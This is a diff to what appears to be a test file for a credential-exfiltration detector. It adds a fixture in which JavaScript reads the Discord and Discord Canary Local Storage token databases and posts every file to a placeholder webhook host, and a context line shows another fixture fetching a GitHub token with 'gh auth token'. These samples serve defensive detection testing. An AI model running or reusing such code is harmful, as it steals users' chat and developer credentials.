@@ -4,6 +4,12 @@ import { sendsCredentials } from './sends-credentials.ts';
 examine(sendsCredentials, {
   speaks: [
     {
+      when: 'the stores of several chat clients are listed in a loop over a list that was made of names',
+      files: {
+        'index.js': `const fs = require('fs'), path = require('path'); const folders = ['discord', 'discordcanary'].map(name => path.join(process.env.APPDATA, name, 'Local Storage', 'leveldb')); for (const folder of folders) for (const file of fs.readdirSync(folder)) fetch('https://hook.invalid', { method: 'POST', body: fs.readFileSync(path.join(folder, file)) });`,
+      },
+    },
+    {
       when: 'a command is asked for a token',
       files: {
         'index.js': `const token = require('child_process').execSync('gh auth token').toString().trim();
